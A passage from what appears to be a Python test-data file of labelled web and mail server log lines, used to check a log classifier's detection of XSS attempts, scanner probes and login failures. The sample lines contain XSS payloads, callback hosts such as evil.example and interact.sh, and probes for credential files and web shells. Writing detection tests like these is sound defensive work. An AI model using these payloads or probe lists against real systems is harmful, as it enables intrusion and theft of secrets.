        _SYSLOG_OK + '/?q=<script>alert(1)</script> HTTP/1.1" 200 512 "-" "curl/8.0"',
        _HAPROXY % 200 + '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1"',
        # Any tag with a handler (double-encoded too), a style sheet, a data
        # URL; in the referrer or the user agent (a scanner's headers).
        _WEB + '/profile?s=%3Cd3v%2Fonmouseleave%3D%5B2%5D.some%28confirm%29%3E HTTP/1.1" 404 7'
        ' "-" "Mozilla/5.0"',
        _WEB + '/login?name=%253Cd3v%252Fonmouseleave%253D%255B2%255D.some%2528confirm%2529%253E'
        ' HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
        _WEB + "/?s=<style>@import'//evil.example/x.css';</style> HTTP/1.1\" 500 7 \"-\" \"M\"",
        # (Apache escapes a quote of the request: \\".)
        _WEB + '/a?r=<object+data=\\"data:text/html;base64,PHNjcmlwdD4=\\"> HTTP/1.1" 200 7 "-"'
        ' "M"',
        _WEB + '/guestbook.php HTTP/1.1" 400 298 "<HtMl OnPoinTerEnter = (prompt)``>" '
        '"Mozilla/5.0"',
        _WEB + '/ HTTP/1.1" 200 31219 "-" "kbfbh<script>alert(1)</script>jc3wy"',
        # A scanner's request that begins with the script (no method).
    ], [
        _OK + '/search?q=online+banking HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=%22only+once%22 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/docs/iframe-embedding-guide.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/forms/contact-form.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=javascript+tutorial HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _HAPROXY_OK % 200 + '/js/script.js HTTP/1.1"',
        # A tag, then a parameter named like a handler after it closed.
        _OK + '/page?x=<b class=x>bold</b>&onions=2 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/docs/data-text-html.html HTTP/1.1" 200 1024 "https://example.org/?q=onload"'
        ' "Mozilla/5.0"',
        _OK + '/js/script.js HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/docs/the script tag.html HTTP/1.1" 404 1024 "-" "Mozilla/5.0"',
        _OK + '/gallery/img src online.html HTTP/1.1" 404 1024 "-" "Mozilla/5.0"',
        _OK + '/search?q=\\"quoted\\" HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _SYSLOG_OK + '/js/script.js HTTP/1.1" 200 512 "-" "curl/8.0"',
    ]),
    "web scanner": ((0x7014,), [
        _WEB[:-4] + 'OPTIONS /nmaplowercheck1733546380 HTTP/1.1" 405 0 "-" "Mozilla/5.0 '
        '(compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"',
        _WEB + '/phpMyAdmin/scripts/setup.php HTTP/1.1" 200 512 "-" "libwww-perl/6.67"',
        _WEB + '/muieblackcat HTTP/1.1" 404 18 "-" "-"',
        _WEB + '/testproxy.php HTTP/1.1" 404 18 "-" "Mozilla/5.0"',
        _WEB + '/setup/setupadministrator.action HTTP/1.1" 404 492 "-" "Mozilla/5.0"',
        _WEB + '/vendor/htmlawed/htmlawed/htmLawedTest.php HTTP/1.1" 200 803 "-" "Mozilla/5.0"',
        _WEB + '/info.php HTTP/1.1" 404 548 "-" "curl/7.68.0"',
        _WEB + '/storage/logs/laravel.log HTTP/1.1" 404 548 "-" "curl/7.68.0"',
        _WEB + '/telescope/requests HTTP/1.1" 404 548 "-" "curl/7.68.0"',
        _WEB + '/wp-includes/wlwmanifest.xml HTTP/1.1" 404 548 "-" "Go-http-client/1.1"',
        _WEB + '/server-status HTTP/1.1" 404 548 "-" "curl/7.68.0"',
        _WEB + '/nmaplowercheck1733546380 HTTP/1.1" 404 548 "-" "Mozilla/5.0"',
        _WEB + '/accounts.sql HTTP/1.1" 404 548 "-" "curl/7.68.0"',
        _WEB + '/customers.sql.gz HTTP/1.1" 404 548 "-" "curl/7.68.0"',
        _WEB + '/.git/logs/HEAD HTTP/1.1" 404 548 "-" "curl/7.68.0"',
        _WEB + '/.user.ini HTTP/1.1" 404 548 "-" "curl/7.68.0"',
        _WEB + '/db/.htaccess HTTP/1.1" 404 548 "-" "Mozilla/5.0"',
        _WEB + '/wp-content/debug.log HTTP/1.1" 404 548 "-" "Mozilla/5.0"',
        _WEB + '/c99.php HTTP/1.1" 404 548 "-" "Go-http-client/1.1"',
        _WEB + '/actuator/heapdump HTTP/1.1" 403 548 "-" "Go-http-client/1.1"',
        _WEB + '/_vti_pvt/service.cnf HTTP/1.1" 404 548 "-" "curl/7.68.0"',
        _WEB + '/admin/fckeditor/editor/filemanager/connectors/php/upload.php HTTP/1.1" 403 548 '
        '"-" "curl/7.68.0"',
        _WEB + '/config/database.yml HTTP/1.1" 404 548 "-" "curl/7.68.0"',
        _WEB + '/.idea/workspace.xml HTTP/1.1" 404 548 "-" "curl/7.68.0"',
        _WEB + '/admin/ HTTP/1.1" 404 1024 "-" "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)'
        ' (Test:000001)"',
        _WEB + '/w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1" 400 1024 "-" "-"',
        # Probe URLs: nmap's (nmap-service-probes' FourOhFourRequest),
        # Acunetix's and Nessus' (OWASP CRS's scanners-urls.data).
        _WEB + '/nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0" 404 1024 "-" "-"',
        _WEB + '/acunetix-wvs-test-for-some-inexistent-file HTTP/1.1" 404 1024 "-" "-"',
        _WEB + '/nessus_is_probing_you_ HTTP/1.1" 404 1024 "-" "-"',
        _WEB + '/index.php?q=acunetix_wvs_security_test HTTP/1.1" 404 456 "-" "Mozilla/5.0"',
        # The files a scanner looks for: credentials, a repository.
        _WEB + '/.env HTTP/1.1" 404 19 "-" "Mozilla/5.0"',
        _WEB + '/vendor/.env HTTP/1.1" 404 19 "-" "Mozilla/5.0"',
        _WEB + '/.git/config HTTP/1.1" 404 19 "-" "Mozilla/5.0"',
        _WEB + '/.aws/credentials HTTP/1.1" 404 19 "-" "Mozilla/5.0"',
        _WEB + '/install HTTP/1.1" 404 1210 "-" "feroxbuster/2.10.4"',
        _WEB + '/ HTTP/1.1" 200 207787 "-" "Mozilla/5.0 (l9scan/2.0.1323e2133323e2134313e2033;'
        ' +https://leakix.net)"',
        _WEB + '/ HTTP/1.1" 404 1109 "-" "Mozilla/5.0 (compatible; CensysInspect/1.1;'
        ' +https://about.censys.io/)"',
        _SYSLOG_WEB + '/w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1" 400 1024 "-" "-"',
        _HAPROXY % 404 + '/.git/config HTTP/1.1"',
        _HAPROXY6 % 404 + '/nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0"',
        # Out-of-band callbacks (interactsh, Burp Collaborator), in the URL or
        # the referrer; internet-wide scanners' user agents.
        _WEB + '/proxy?url=http%3A%2F%2F16vwx3ymdv8p.burpcollaborator.net%2F HTTP/1.1" 302 2'
        ' "-" "Mozilla/5.0"',
        _WEB + '/ HTTP/1.1" 200 6847 "http://7l4dqijovmw8.interact.sh/ref" "Mozilla/5.0"',
        _HAPROXY % 404 + '/?url=http%3A%2F%2Fp8795jvfadoh.oast.fun%2F HTTP/1.1"',
        _WEB + '/ HTTP/1.1" 200 1 "-" "Mozilla/5.0 (compatible; Odin; https://docs.getodin.com/)"',
        _WEB + '/ HTTP/1.1" 200 1 "-" "Mozilla/5.0 (compatible; InternetMeasurement/1.0;'
        ' +https://internet-measurement.com/)"',
        # Administration tools looked for where there are none (404).
        _WEB + '/wp-login.php HTTP/1.1" 404 1 "-" "Mozilla/5.0"',
        _WEB + '/blog/xmlrpc.php HTTP/1.0" 404 288 "-" "-"',
        _WEB + '/roundcube/ HTTP/2.0" 410 - "-" "Mozilla/4.0"',
        _WEB + '/phpMyAdmin-2.8.2.3/scripts/setup.php HTTP/1.1" 404 47 "-" "-"',
        # Shells' histories, a PHP file's backup; bad bots' agents.
        _WEB + '/.mysql_history HTTP/1.1" 404 196 "-" "-"',
        _WEB + '/.rhosts HTTP/1.1" 404 196 "-" "-"',
        _WEB + '/db/config.php.bak HTTP/1.1" 404 4617 "-" "Mozilla/15 (linux-gnu)"',
        _WEB + '/ HTTP/1.1" 403 181 "-" "muhstik-scan"',
        _WEB + '/ HTTP/1.1" 200 2326 "http://www.example.com/start.html" "EmailCollector"',
        _WEB + '/pma/ HTTP/1.1" 404 401 "-" "Mozilla/5.0"',
        _SYSLOG_WEB + '/phpMyAdmin/index.php HTTP/1.1" 404 1 "-" "Mozilla/5.0"',
        _WEB + '/solr/admin/info/system?wt=json HTTP/1.1" 404 471 "-" "curl/7.68.0"',
        _HAPROXY6 % 404 + '/phpMyAdmin/index.php HTTP/1.1"',
        # A sensitive file looked for, in the error logs.
        "[Thu Dec 05 10:54:22.500991 2024] [core:info] [pid 21877:tid 1401] [client"
        " 2001:db8:bad::17:37442] AH00128: File does not exist: /var/www/html/.git/config",
        _NGINX + 'open() "/var/www/html/.DS_Store" failed (2: No such file or directory)'
        + _NGINX_TAIL,
        # DFind's probe has no Host header: Apache 2.2's error, 2.4's debug message.
        "[Fri Mar 08 05:22:28 2024] [error] [client 61.2.3.4] client sent HTTP/1.1 request"
        " without hostname (see RFC2616 section 14.23): /w00tw00t.at.ISC.SANS.DFind:)",
        "[Fri Mar 08 05:22:28.123456 2024] [core:debug] [pid 123:tid 456] protocol.c(1322):"
        " [client 61.2.3.4:5678] AH00569: client sent HTTP/1.1 request without hostname (see"
        " RFC2616 section 14.23): /w00tw00t.at.ISC.SANS.test0:)",
        _WEB + '/.svn HTTP/1.1" 404 196 "-" "-"',
        _WEB + '/.profile HTTP/1.1" 404 196 "-" "-"',
        _WEB + '/ HTTP/1.1" 200 1 "-" "Hello from Palo Alto Networks, find out more about our'
        ' scans in https://docs-cortex.paloaltonetworks.com/r/1/Cortex-Xpanse/Scanning-activity"',
        _WEB + '/ HTTP/1.1" 403 233 "-" "l9tcpid/v1.1.0"',
        # Exploits' probes: ProxyLogon's, Jira's (CVE-2021-26086), Zyxel's ViewLog.asp.
        _WEB + '/owa/auth/x.js HTTP/1.1" 404 153 "-" "Mozilla/5.0"',
        _WEB + '/s/6b71fb/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties'
        ' HTTP/1.1" 403 1072 "-" "Mozilla/5.0"',
        _WEB_POST + '/cgi-bin/ViewLog.asp HTTP/1.1" 400 0 "-" "-"',
        # Looked for and refused by the configuration (403), or not found.
        _WEB + '/myadmin/ HTTP/1.1" 403 153 "-" "Mozilla/5.0"',
        _WEB + '/server-info HTTP/1.1" 404 153 "-" "Mozilla/5.0"',
        _WEB + '/v2/_catalog HTTP/1.1" 404 153 "-" "Hello, world"',
        _WEB + '/containers/json HTTP/1.1" 404 153 "-" "Go-http-client/1.1"',
        _WEB + '/geoserver/web/ HTTP/1.1" 404 153 "-" "Mozilla/5.0"',
        # Web shells and exploits' files by their known paths; a plugin's readme
        # asked for where there is no such plugin (its version).
        _WEB + '/wp-content/themes/seotheme/mar.php HTTP/1.1" 404 153 "-" "Mozilla/5.0"',
        _WEB + '/ALFA_DATA/alfacgiapi/perl.alfa HTTP/1.1" 404 153 "-" "Mozilla/5.0"',
        _WEB + '/wp-includes/Requests/about.php HTTP/1.1" 404 153 "-" "Go-http-client/1.1"',
        _WEB + '/.well-known/shell.php HTTP/1.1" 403 153 "-" "Mozilla/5.0"',
        _WEB + '/api/index.php/v1/config/application?public=true HTTP/1.1" 404 153 "-" "M"',
        _WEB + '/wp-content/plugins/ultimate-member/readme.txt HTTP/1.1" 404 153 "-" "M"',
        # Magento's version and configuration looked for, a backup of any file,
        # a WordPress user list, VPN portals' logins, Magento 1's downloader
        # (refused, missing, or dropped by nginx: 444).
        _WEB + '/magento_version HTTP/1.1" 404 540 "-" "Mozilla/5.0"',
        _WEB + '/app/etc/env.php HTTP/1.1" 403 540 "-" "Mozilla/5.0"',
        _WEB + '/.well-known/security.txt.bak HTTP/2.0" 404 153 "-" "Mozilla/5.0"',
        _WEB + '/wp-json/wp/v2/users HTTP/1.1" 403 10707 "-" "curl/7.88.1"',
        _WEB + '/global-protect/login.esp HTTP/1.1" 404 153 "-" "Mozilla/5.0"',
        _WEB + '/downloader/ HTTP/1.1" 444 0 "-" "Go-http-client/1.1"',
        # nginx refusing a dot file by its configuration (deny all).
        _NGINX + 'access forbidden by rule, client: 61.2.3.4, server: shop.example.org, request:'
        ' "GET /.git/config HTTP/1.1", host: "shop.example.org"',
        # An open proxy looked for: another site's URL refused, CONNECT.
        _WEB + 'http://azenv.net/ HTTP/1.1" 404 153 "-" "Mozilla/5.0"',
        _WEB.replace("GET ", "CONNECT ") + 'www.google.com:443 HTTP/1.1" 405 153 "-" "-"',
    ], [
        _OK + '/favicon.ico HTTP/1.1" 403 153 "-" "Mozilla/5.0"',
        _OK + 'http://www.example.org/ HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/docs/server-info-page.html HTTP/1.1" 404 153 "-" "Mozilla/5.0"',
        _OK + '/about.php HTTP/1.1" 404 153 "-" "Mozilla/5.0"',
        _OK + '/wp-content/plugins/akismet/readme.txt HTTP/1.1" 200 4096 "-" "Mozilla/5.0"',
        _OK + '/wp-json/wp/v2/users/me?context=edit HTTP/1.1" 200 901 "-" "Mozilla/5.0"',
        _OK + '/backup/ HTTP/1.1" 404 153 "-" "Mozilla/5.0"',
        _NGINX + 'access forbidden by rule, client: 10.1.2.3, server: shop.example.org, request:'
        ' "GET /admin/ HTTP/1.1", host: "shop.example.org"',
        # Found (200), or any page gone (410): no probe.
        _OK + '/server-status?auto HTTP/1.1" 200 548 "-" "collectd/5.12"',
        _OK + '/wp-includes/wlwmanifest.xml HTTP/1.1" 200 1045 "-" "Mozilla/5.0"',
        _OK + '/old-offer.html HTTP/1.1" 410 200 "-" "Mozilla/5.0"',
        _OK + '/docs/sql-tutorial.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/downloads/mysql-8.0.tar.gz HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/blog/why-we-log-errors HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/errors/404.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/shop/backdoor-hinges.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/blog/nikto-review.html HTTP/1.1" 200 1024 "https://www.google.com/search?q=nikto"'
        ' "Mozilla/5.0"',
        _OK + '/blog/nice%20ports%2C%20harbours.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/blog/acunetix-wvs-security-review HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/docs/.env.example HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/blog/what-is-a-.env-file HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _OK + '/.well-known/security.txt HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
        _HAPROXY_OK % 200 + '/blog/what-is-a-.env-file HTTP/1.1"',
        _OK + '/blog/how-oast.fun-callbacks-work HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
        # An administrator using them, a page about them.
        _OK + '/wp-login.php HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
        _OK + '/docs/config.php.html HTTP/1.1" 404 1 "-" "Mozilla/5.0"',
        # Munin's plugins (Perl's LWP) reading the server's status.
        _OK + '/server-status?auto= HTTP/1.1" 200 362 "-" "Munin/2.0.73 libwww-perl/6.68"',
        _OK + '/phpmyadmin/index.php HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
        _HAPROXY_OK % 200 + '/phpmyadmin/ HTTP/1.1"',
        _OK + '/blog/phpmyadmin-tips HTTP/1.1" 404 1 "-" "Mozilla/5.0"',
        _OK + '/actuator/health HTTP/1.1" 200 1 "-" "kube-probe/1.29"',
        _OK + '/ HTTP/1.1" 200 1 "-" "Mozilla/5.0 (compatible; Odin-reader/1.0)"',
        "[Thu Dec 05 10:54:22.500991 2024] [core:info] [pid 21877:tid 1401] [client"
        " 10.1.2.3:37442] AH00128: File does not exist: /var/www/html/favicon.ico",
        _NGINX + 'open() "/var/www/html/robots.txt" failed (2: No such file or directory)'
        + _NGINX_TAIL,
    ]),
    "mail login failure": ((0x1027,), [
        "Dec  7 10:00:01 mx1 saslauthd[811]: do_auth         : auth failure: [user=dave] "
        "[service=smtp] [realm=] [mech=pam] [reason=PAM auth error]",
        # OpenSMTPD.
        "Mar  9 03:47:26 mx smtpd[22899]: de68e766d532c59d smtp authentication"
        " user=bob@example.org result=permfail",
        "Mar  9 03:47:26 mx smtpd[22899]: de68e766d532c59d smtp event=authentication"
        " user=bob@example.org result=permfail",
        "Nov 22 10:00:01 mail postfix/smtpd[1234]: warning: unknown[61.2.3.4]: SASL LOGIN"
        " authentication failed: UGFzc3dvcmQ6",
        "Nov 22 10:00:01 mail dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2"
        " secs): user=<bob>, method=PLAIN, rip=61.2.3.4, lip=10.0.0.1, session=<x>",
        "Nov 22 10:00:01 mail dovecot: auth-worker(1234): pam(bob,61.2.3.4,<x>):"
        " pam_authenticate() failed: Authentication failure (password mismatch?)",
        # Dovecot 2.3.2x.
        "Nov 22 10:00:01 mail dovecot[12337]: auth-worker(m.mueller,61.2.3.4)<665802>"
        "<XwG+a/b1>: request [307]: unix_user: pam_authenticate() failed: Authentication"
        " failure (Password mismatch?)",
        # Dovecot 2.3.14 and later.
        "Nov 22 10:00:01 mail dovecot: imap-login: Login aborted: Connection closed (auth"
        " failed, 3 attempts in 15 secs) (auth_failed): user=<bob>, method=PLAIN, rip=61.2.3.4,"
        " lip=10.0.0.1, TLS, session=<x>",
        "2024-12-01 00:00:01 login authenticator failed for (User) [61.2.3.4]: 535 Incorrect"
        " authentication data (set_id=bob)",
        # Other processes, other dovecot messages, Debian's sendmail (sm-mta), Courier.
        "Jan 29 08:11:45 mail postfix-incoming/smtpd[10752]: warning: unknown[61.2.3.4]: SASL"
        " LOGIN authentication failed: Password:",
        "Jun 23 00:52:43 mail dovecot: pop3-login: Disconnected: Inactivity (auth failed, 1"
        " attempts): user=<info>, method=PLAIN, rip=61.2.3.4, lip=10.0.0.1",
        "Aug 29 03:17:18 mail dovecot: submission-login: Client has quit the connection (auth"
        " failed, 1 attempts in 2 secs): user=<user1>, method=LOGIN, rip=61.2.3.4, lip=0.0.0.0",
        "Jan 29 09:33:58 pop3-login: Info: Aborted login (auth failed, 1 attempts in 2 secs):"
        " user=<grace>, method=PLAIN, rip=61.2.3.4",
        "Jul 02 13:49:32 mail dovecot[442]: dovecot: auth(default): pam(bob,61.2.3.4):"
        " pam_authenticate() failed: User not known to the underlying authentication module",
        # Dovecot's auth processes under their own names, and in its own log file.
        "Jun 12 11:48:12 auth-worker(80180): Info: conn unix:auth-worker (uid=143):"
        " auth-worker<13247>: sql(support,61.2.3.4): unknown user",
        "2013-08-11 03:56:40 auth-worker(default): Info: pam(bob,61.2.3.4): pam_authenticate()"
        " failed: Authentication failure (password mismatch?)",
        "Mar 23 06:10:52 mail auth: Info: ldap(dog,61.2.3.4,): invalid credentials",
        "May 24 01:58:40 mail sm-mta[65696]: 14NNwaRl065696: AUTH failure (DIGEST-MD5): user not"
        " found (-20) SASL(-13): user not found: unable to canonify user",
        # Without the queue id (no transaction yet).
        "Dec  7 06:00:46 mail sendmail[1046]: AUTH failure (LOGIN): authentication failure (-13)"
        " SASL(-13): authentication failure: checkpass failed, user=bob, relay=[61.2.3.4]",
        "Apr 17 19:17:11 mail courierpop3login: LOGIN FAILED, user=bob@example.org,"
        " ip=[::ffff:61.2.3.4]",
        # Dovecot: a TAI64 time stamp; a proxy's backend refused the login; a
        # login in plaintext where it is not allowed.
        "@400000004c91b044077a9e94 imap-login: Info: Aborted login (auth failed, 1 attempts):"
        " user=<bob@example.org>, method=CRAM-MD5, rip=61.2.3.4, lip=10.0.0.1",
        "Jul 17 09:21:22 mail dovecot: imap-login: Disconnected (proxy dest auth failed):"
        " user=<bob@example.org>, method=PLAIN, rip=61.2.3.4, lip=10.0.0.1, session=<x>",
        "Dec 12 11:19:11 mail dovecot: pop3-login: Aborted login (tried to use disallowed"
        " plaintext auth): rip=61.2.3.4, lip=10.0.0.1, session=<x>",
        "Jul 26 11:11:21 mail dovecot: imap-login: Disconnected: Too many invalid commands"
        " (tried to use disallowed plaintext auth): user=<test>, rip=61.2.3.4, lip=10.0.0.1",
        # Exim with the interface it was reached on.
        "2017-04-23 22:45:59 fixed_login authenticator failed for bad.example.net"
        " [61.2.3.4]:54412 I=[10.0.0.1]:587: 535 Incorrect authentication data"
        " (set_id=bob@example.org)",
        "2014-12-02 03:00:23 auth_plain authenticator failed for (rom182) [61.2.3.4]:41556"
        " I=[10.0.0.1]:25: 535 Incorrect authentication data (set_id=webmaster)",
        # Courier's SMTP server.
        "Jul  3 23:07:20 mail courieresmtpd: error,relay=::ffff:61.2.3.4,msg=\"535"
        " Authentication failed.\",cmd: YWRvYmVhZG9iZQ==",
        "Aug 14 12:51:05 mail courieresmtpd[425070]: error,relay=::ffff:61.2.3.4,port=43632,"
        "msg=\"535 Authentication failed.\",cmd: AUTH LOGIN bob@example.org",
        # Cyrus (imap, imaps, pop3, timsieved) and its sieve server.
        "Jan 4 21:51:05 mail cyrus/imaps[5355]: badlogin: host.example.net [61.2.3.4]"
        " plaintext bob@example.org SASL(-13): authentication failure: checkpass failed",
        "Feb 20 17:23:32 cyrus/pop3[4297]: badlogin: example.com [61.2.3.4] plaintext mail0001"
        " SASL(-13): authentication failure: checkpass failed",
        "Jul 18 17:21:58 mail cyrus/timsieved[12305]: badlogin: example.com[61.2.3.4] PLAIN"
        " authentication failure",
        "Dec 1 20:36:56 mail sieve[23713]: badlogin: example.com[61.2.3.4] PLAIN authentication"
        " failure",
        # UW IMAP.
        "Jul 3 20:56:53 mail imapd[666]: Login failed user=bob auth=bob host=bad.example.net"
        " [61.2.3.4]",
        "Jul 29 18:30:19 mail ipop3d[25745]: Login failed user=info auth=info"
        " host=bad.example.net [61.2.3.4]",
        "Jan 14 20:28:07 mail imapd[19343]: Login excessive login failures user=bob auth=bob"
        " host=bad.example.net [61.2.3.4]",
    ], [
        "Dec  7 10:00:01 mx1 saslauthd[811]: do_auth         : auth success: [user=dave] "
        "[service=smtp] [realm=] [mech=pam]",
        "Nov 22 10:00:01 mail dovecot: imap-login: Login: user=<bob>, method=PLAIN,"
        " rip=10.1.2.3, lip=10.0.0.1, mpid=1, TLS",
        "Nov 22 10:00:01 mail dovecot: imap-login: Login aborted: Connection closed (no auth"
        " attempts in 0 secs) (no_auth_attempts): user=<>, rip=61.2.3.4, lip=10.0.0.1, TLS",
        # The server's fault, not the client's (as fail2ban reads it).
        "Feb  3 08:29:28 mail postfix/smtpd[21022]: warning: unknown[61.2.3.4]: SASL LOGIN"
        " authentication failed: Connection lost to authentication server",
        "Aug 31 16:21:53 mail dovecot: imap-login: Disconnected (no auth attempts in 4 secs):"
        " user=<>, rip=61.2.3.4, lip=10.0.0.1, TLS",
        "Mar 23 06:10:52 mail auth: Info: ldap(dog,61.2.3.4,): authenticated",
        # A recipient refused (policy), not a login; logins that worked.
        "Apr 10 03:47:57 mail courieresmtpd: error,relay=::ffff:61.2.3.4,from=<a@example.net>,"
        "to=<b@example.org>: 550 User unknown.",
        "Jan 4 21:51:05 mail cyrus/imaps[5355]: login: host.example.net [10.1.2.3] bob"
        " plaintext+TLS User logged in",
        "Jul 3 20:56:53 mail imapd[666]: Login user=bob host=ws17.example.org [10.1.2.3]",
        # Exim: the server could not check (4xx), not the client's fault.
        "2017-04-23 22:45:59 fixed_login authenticator failed for ws17.example.org"
        " [10.1.2.3]:54412 I=[10.0.0.1]:587: 435 Unable to authenticate at present",
    ]),
    "web login failed": ((0x102B,), [
        # lighttpd's own error log; HAProxy's own authentication refused.
        "2024-12-06 10:43:32: (http_auth.c.875) password doesn't match for /gitweb/ username:"
        " francois, IP: 61.2.3.4",
        "2024-12-06 00:26:15: (http_auth.c.1136) digest: auth failed for  xxx : wrong password,"
        " IP: 61.2.3.4",
        "Dec  6 01:02:42 lb1 haproxy[760]: 61.2.3.4:58430 [06/Dec/2024:01:02:42.608] main"
        ' main/<NOSRV> -1/-1/-1/-1/0 401 248 - - PR-- 0/0/0/0/0 0/0 "GET / HTTP/1.1"',
        # Basic authentication, Apache 2.2 and 2.4 (AH codes, [pid:tid], client:port).
        "[Wed Jul 17 22:18:52 2013] [error] [client 61.2.3.4] user username: authentication"
        " failure for \"/basic/file\": Password Mismatch",
        "[Sat Jul 20 21:39:11.978080 2013] [auth_basic:error] [pid 17512:tid 140123053950720]"
        " [client 61.2.3.4:51390] AH01617: user username: authentication failure for"
        " \"/basic/file\": Password Mismatch",
        "[Wed Jul 17 22:32:48 2013] [error] [client 61.2.3.4] user wrongusername not found:"
        " /basic/file",
        "[Sat Jul 20 21:37:32.266605 2013] [auth_basic:error] [pid 17512:tid 140123079128832]"
        " [client 61.2.3.4:51386] AH01618: user  not found: /basic/file/cant_get_me.html",
        "[Thu Jul 11 01:21:44 2013] [error] [client 2606:2800:220:1:248:1893:25c8:1946] user"
        " test-ipv6 not found: /",
        "[Sat Jun 01 02:17:42 2013] [error] [client 61.2.3.4] user root not found",
        "[Mon Nov 18 22:39:33 2013] [error] [client 61.2.3.4] user gg not found: /, referer:"
        " http://example.org/management.html",
        # Digest authentication: a wrong password, a user unknown in the realm.
        "[Wed Jul 17 23:50:37 2013] [error] [client 61.2.3.4] Digest: user username: password"
        " mismatch: /digest/cant_get_me.html",
        "[Sat Jul 20 21:44:06.867985 2013] [auth_digest:error] [pid 17540:tid 140123070736128]"
        " [client [2001:db8::7]:51406] AH01792: user john.doe: password mismatch: /digest/x",
        "[Thu Jul 18 00:08:39 2013] [error] [client 61.2.3.4] Digest: user `username' in realm"
        " `digest private area' not found: /digest_wrongrelm/cant_get_me.html",
        "[Sat Jul 20 21:45:28.890523 2013] [auth_digest:error] [pid 17540:tid 140122972485376]"
        " [client 61.2.3.4:51408] AH01790: user `username' in realm `digest private area' not"
        " found: /digest_wrongrelm/cant_get_me.html",
        # ErrorLog syslog.
        "Feb 16 22:32:48 srv httpd[22034]: [error] [client 61.2.3.4] user wrongusername not"
        " found: /basic/file",
        "2024-03-01T10:00:01.123456+01:00 www apache2[18154]: [auth_basic:error] [pid 18154]"
        " [client 61.2.3.4:48154] AH01617: user bob: authentication failure for \"/\":"
        " Password Mismatch",
        # nginx's auth_basic: a wrong password, an unknown user; through syslog.
        _NGINX + 'user "a.smith": password mismatch' + _NGINX_TAIL,
        _NGINX + 'user "admin" was not found in "/etc/nginx/.htpasswd"' + _NGINX_TAIL,
        _SYSLOG_NGINX + 'user "a.smith": password mismatch' + _NGINX_TAIL,
        "<187>" + _SYSLOG_NGINX + 'user "admin" was not found in "/etc/nginx/.htpasswd"'
        + _NGINX_TAIL,
        # mod_authnz_ldap (2.4, and 2.2 with its pid first).
        "[Fri Mar 08 05:22:28.123456 2024] [authnz_ldap:info] [pid 1] [client 61.2.3.4:5678]"
        " AH01695: auth_ldap authenticate: user svc-backup authentication failed; URI /secure/"
        " [ldap_bind() to check user credentials failed][Invalid credentials]",
        "[Fri Mar 08 05:22:28 2024] [info] [client 61.2.3.4] [2345] auth_ldap authenticate:"
        " user bob authentication failed; URI /secure/ [User not found][No such object]",
        # A user name given and refused (401), in an access log, and through syslog.
        '10.20.3.135 - nagiosadmin [08/Dec/2024:08:03:50 +0000] "GET /nagios/ HTTP/1.1" 401'
        ' 459 "-" "Mozilla/5.0"',
        _SYSLOG_WEB.replace(" - - ", " - j.doe ") + '/private/ HTTP/1.1" 401 0 "-" "curl/8.0"',
        # A login form refused (WordPress, Drupal: the form again), WordPress's XML-RPC.
        _WEB_POST + '/wp-login.php HTTP/1.1" 200 5120'
        ' "https://shop.example.org/wp-login.php" "Mozilla/5.0"',
        'www.example.org:443 61.2.3.4 - - [22/Nov/2004:10:00:01 +0000] "POST /blog/wp-login.php'
        '?redirect_to=%2Fblog%2Fwp-admin%2F HTTP/1.1" 200 5120 "-" "Mozilla/5.0"',
        _WEB_POST + '/xmlrpc.php HTTP/1.1" 200 403 "-" "Mozilla/5.0"',
        _WEB_POST + '/user/login HTTP/1.1" 200 9120 "-" "Mozilla/5.0"',
        # A login or token endpoint refusing what was sent (401 to a POST).
        _WEB_POST + '/store-api/account/login HTTP/1.1" 401 271 "-"'
        ' "okhttp/4.12.0"',
        _WEB_POST + '/rest/default/V1/integration/customer/token HTTP/1.1" 401'
        ' 130 "-" "Go-http-client/2.0" rt=0.007 uct="0.000"',
        (_HAPROXY6 % 401).replace('"GET ', '"POST ') + '/api/oauth/token HTTP/1.1"',
        # Tomcat's LockOutRealm: an account it locked, tried again.
        "08-Dec-2024 15:45:01.585 WARNING [http-nio-8080-exec-7] org.apache.catalina.realm."
        "LockOutRealm.filterLockedAccounts An attempt was made to authenticate the locked user"
        " [admin]",
    ], [
        # The challenge (no user given), and a user let in.
        '10.20.3.135 - - [08/Dec/2024:08:03:50 +0000] "GET /nagios/ HTTP/1.1" 401 459 "-"'
        ' "Mozilla/5.0"',
        '10.20.3.135 - nagiosadmin [08/Dec/2024:08:03:51 +0000] "GET /nagios/ HTTP/1.1" 200'
        ' 4599 "-" "Mozilla/5.0"',
        # A login that worked (a redirect), the form shown, a lost password's form,
        # Jetpack's and a pingback's XML-RPC.
        _OK_POST + '/wp-login.php HTTP/2.0" 302 0 "-" "Mozilla/5.0"',
